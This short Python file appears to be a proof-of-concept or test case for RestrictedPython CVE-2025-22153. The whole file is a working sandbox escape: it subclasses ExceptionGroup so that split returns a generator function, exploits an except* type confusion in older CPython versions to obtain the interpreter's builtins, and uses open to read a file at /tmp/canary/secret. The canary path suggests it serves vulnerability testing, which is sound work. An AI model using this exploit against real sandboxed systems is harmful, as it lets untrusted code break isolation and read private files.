# source: RestrictedPython CVE-2025-22153
# effect: secret

# Before CPython 3.12.9 and 3.13.2, what split returns is taken for a pair without a look at its type: of a
# function, the builtins it was made with and its name. A generator leaves the handler before that shows.
class Group(ExceptionGroup):
    def split(self, kind):
        return confuse


def confuse():
    try:
        raise Group("a group", [TypeError()])
    except* ValueError as found:
        yield found


paused = confuse()
print(next(paused)["open"]("/tmp/canary/secret").read(), flush=True)
